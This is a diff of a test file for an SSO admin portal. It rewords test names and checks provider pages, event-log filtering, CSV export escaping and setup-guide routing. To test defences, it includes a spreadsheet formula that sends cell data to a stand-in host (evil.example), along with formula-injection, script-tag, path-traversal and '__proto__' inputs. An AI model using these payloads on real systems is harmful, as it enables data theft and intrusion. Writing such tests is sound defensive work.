     const day = new Date(Date.now() + 10 * 24 * 3_600_000).toISOString().slice(0, 10)
-    expect(textOf(await done('/acme/retire', { at: day }))).toContain('The day is set.')
+    expect(textOf(await done('/acme/retire', { at: day }))).toContain('The end date is set.')
     expect((await acme()).retireAt?.slice(0, 10)).toBe(day)
     await done('/acme/keep')
     expect((await acme()).retireAt).toBeUndefined()
   })
 
-  it('on a provider that is not there finds no page', async () => {
+  it('on a provider that does not exist gets 404', async () => {
     await open()
     for (const act of ['test', 'enable', 'disable', 'move', 'recommend', 'remove', 'edit', 'rehearse'])
       expect([act, (await post(`/nobody/${act}`)).status]).toEqual([act, 404])
@@ -869,13 +846,13 @@ describe('the event log', () => {
       50,
     )
 
-  it('shows what a filter finds', async () => {
+  it('shows the events that match a filter', async () => {
     await open()
     await write([
       { provider: 'acme', user_id: 'ada' },
       { provider: 'other', user_id: 'grace' },
       {
-        kind: 'refused',
+        kind: 'sign-in-failed',
         provider: 'acme',
         reference: 'K7QX2M9P',
         detail: JSON.stringify({ code: 'answer_invalid', reason: 'the nonce is another one' }),
@@ -886,10 +863,10 @@ describe('the event log', () => {
     expect(textOf(await page('/events?reference=k7qx2m9p'))).toContain('reason: the nonce is another one')
     expect(textOf(await page('/events?from=2026-11-02&to=2026-11-02'))).toMatch(/2026-11-02 .*other grace/)
     expect(textOf(await page('/events?from=2026-11-02&to=2026-11-02'))).not.toContain('2026-11-03')
-    expect(textOf(await page('/events?kind=linked'))).toContain('Nothing has happened')
+    expect(textOf(await page('/events?kind=linked'))).toContain('No matching events')
   })
 
-  it('is read page by page', async () => {
+  it('is shown page by page', async () => {
     await open()
     await write(Array.from({ length: 70 }, () => ({ provider: 'acme' })))
     const first = await page('/events?provider=acme')
@@ -906,7 +883,7 @@ describe('the event log', () => {
     'to=2026-13-45',
     'from=2026-02-30',
     'reference=<script>',
-  ])('says what is wrong with %s', async (query) => {
+  ])('shows an error for %s', async (query) => {
     await open()
     const seen = await page(`/events?${query}`)
     expect(seen.status).toBe(422)
@@ -915,7 +892,7 @@ describe('the event log', () => {
     expect((await page(`/events.csv?${query}`)).status).toBe(404)
   })
 
-  it('is a table for spreadsheets, with all that the filter finds', async () => {
+  it('is exported as CSV with all events that match the filter', async () => {
     await open()
     await write(Array.from({ length: 2500 }, (_, at) => ({ provider: at % 5 === 0 ? 'other' : 'acme' })))
     const { headers, body } = await page('/events.csv?provider=acme')
@@ -928,7 +905,7 @@ describe('the event log', () => {
     expect(new Set(lines).size).toBeGreaterThan(28)
   })
 
-  it('holds no formula that a spreadsheet would run', async () => {
+  it('exports no formula that a spreadsheet would run', async () => {
     await open()
     const formula = '=HYPERLINK("https://evil.example/?"&A1)'
     await write([{ user_id: formula }])
@@ -945,7 +922,7 @@ describe('the event log', () => {
     ['\r=1', '"\'\r=1"'],
     [' =1', "' =1"],
     ['＝1', "'＝1"],
-    // With a decimal comma, as in German, a semicolon begins the next cell.
+    // Where the decimal separator is a comma, as in German, a semicolon starts the next cell.
     ['a;=1', "a;'=1"],
     ['a; "-1', `"a;' ""-1"`],
     ['a;b', 'a;b'],
@@ -954,13 +931,13 @@ describe('the event log', () => {
     ['a"b', '"a""b"'],
     ['a\nb', '"a\nb"'],
     ['', ''],
-  ])('writes %j as %j', (text, cell) => {
+  ])('exports %j as %j', (text, cell) => {
     expect(csvLine([text, 'x'])).toBe(`${cell},x\r\n`)
   })
 })
 
-describe('what is read', () => {
-  it('can be handed to whoever decides about it', async () => {
+describe('the page about the claims that are read', () => {
+  it('names the scopes and the claims for a security review', async () => {
     await openWithAcme()
     const text = textOf(await page('/acme/what-is-read'))
     expect(text).toContain('The scopes are openid email profile and no others')
@@ -977,73 +954,24 @@ describe('what is read', () => {
   })
 })
 
-describe('a guide', () => {
-  it('is a page: headings, steps, tables and commands, and nothing in it is markup', () => {
-    const text = [
-      '# Okta <b>',
-      '',
-      'Two lines',
-      'of **one** paragraph, see [Google](google.md).',
-      '1. First `code`',
-      '   goes on',
-      '2. *Second*',
-      '',
-      '| a | b |',
-      '|---|---|',
-      '| `x` | y |',
-      '```sh',
-      'portal-sso *providers*',
-      '```',
-      '- Third',
-      '',
-      '  ```json',
-      '  {',
-      '    "a": 1 }',
-      '  ```',
-      '',
-      '---',
-    ].join('\n')
-    const plain = (words: string) => ({ style: 'plain', text: words })
-    expect(blocksOf(text)).toEqual([
-      { type: 'heading', level: 1, text: [plain('Okta <b>')] },
-      {
-        type: 'paragraph',
-        text: [
-          plain('Two lines of '),
-          { style: 'strong', text: 'one' },
-          plain(' paragraph, see '),
-          { style: 'link', text: 'Google', href: 'google.md' },
-          plain('.'),
-        ],
-      },
-      {
-        type: 'list',
-        ordered: true,
-        items: [
-          [plain('First '), { style: 'code', text: 'code' }, plain(' goes on')],
-          [{ style: 'emphasis', text: 'Second' }],
-        ],
-      },
-      {
-        type: 'table',
-        head: [[plain('a')], [plain('b')]],
-        rows: [[[{ style: 'code', text: 'x' }], [plain('y')]]],
-      },
-      { type: 'code', text: 'portal-sso *providers*' },
-      { type: 'list', ordered: false, items: [[plain('Third')]] },
-      { type: 'code', text: '{\n  "a": 1 }' },
-    ])
-  })
-
-  it.each(presets.map(({ name }) => [name]))('is there for %s', async (name) => {
+describe('the setup guide', () => {
+  it.each(presets.map(({ name }) => [name]))('has a page for %s', async (name) => {
     await open()
     const { status, body } = await page(`/new/${name}/guide`)
     expect([status, body]).toEqual([200, expect.stringContaining('<h2>')])
     expect(body).toContain(`href="/admin/sso/new/${name}"`)
   })
 
-  it.each(['nothing', '..%2f..%2fpackage', '__proto__'])('is not there for %s', async (name) => {
+  it('links to other guides below the path where the host mounted the admin pages', async () => {
     await open()
-    expect((await page(`/new/${name}/guide`)).status).toBe(404)
+    expect((await page('/new/ping/guide')).body).toContain('href="/admin/sso/new/generic/guide"')
   })
+
+  it.each(['nothing', '..%2f..%2fpackage', '__proto__'])(
+    'has no page for %s, which is no preset',
+    async (name) => {
+      await open()
+      expect((await page(`/new/${name}/guide`)).status).toBe(404)
+    },
+  )
 })
